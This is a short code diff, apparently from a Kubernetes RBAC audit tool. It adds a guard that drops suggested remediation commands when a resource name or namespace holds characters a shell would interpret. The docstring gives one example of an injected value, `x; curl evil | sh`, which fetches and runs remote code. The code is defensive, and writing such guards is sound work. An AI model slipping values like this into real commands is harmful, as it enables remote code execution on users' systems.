@@ -315,7 +315,24 @@ def _stamp(f: Finding, check: type[Check], gate: Gate, severity: Severity) -> Fi
     f.title = check.title
     if f.severity is None:
         f.severity = severity
+    _defuse_remediation(f)
     return f
+
+
+def _defuse_remediation(f: Finding) -> None:
+    """No copy-paste command built around a name a shell would interpret (`x; curl evil | sh`, newlines...).
+
+    A real API server refuses most such names, but RBAC names are only path segments and a snapshot can
+    hold anything; checks format commands with plain f-strings, so the guard sits here, once for all.
+    """
+    if not f.remediation:
+        return
+    for what, value in (("name", f.name), ("namespace", f.namespace)):
+        if value and not mesh.shell_safe(value) and value in f.remediation:
+            shown = repr(value) if len(value) <= 120 else repr(value[:120]) + "..."
+            f.remediation = (f"# no command shown: the {what} {shown} contains characters a shell would "
+                             "interpret (corrupt or hostile input); act on it by hand")
+            return
 
 
 def _run_one(check: type[Check], ctx: Context, severity: Severity) -> list[Finding]:
